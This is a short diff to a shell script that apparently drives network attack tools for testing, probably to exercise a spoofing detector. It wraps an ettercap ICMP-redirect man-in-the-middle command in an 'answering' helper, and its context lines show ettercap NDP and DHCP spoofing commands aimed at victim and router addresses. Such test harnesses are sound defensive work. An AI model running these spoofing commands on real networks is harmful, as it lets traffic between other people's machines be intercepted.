@@ -55,7 +55,8 @@ attacks_ettercap_others()
 	have ettercap || return
 	tool "ettercap ndp:remote" src-ip "knows victim $IP6_R $MAC_G" \
 		ettercap -T -q -i eth0 -M ndp:remote //$IP6_V/ //$IP6_R/
-	tool "ettercap icmp" flood "drifts $IP_X" \
+	# It never hears what it would answer.
+	answering tool "ettercap icmp" flood "drifts $IP_X" \
 		ettercap -T -q -z -i eth0 -M icmp:$MAC_SILENT/$IP_SILENT \
 		/$IP_V// ///
 	tool "ettercap dhcp" dhcp-server leases \
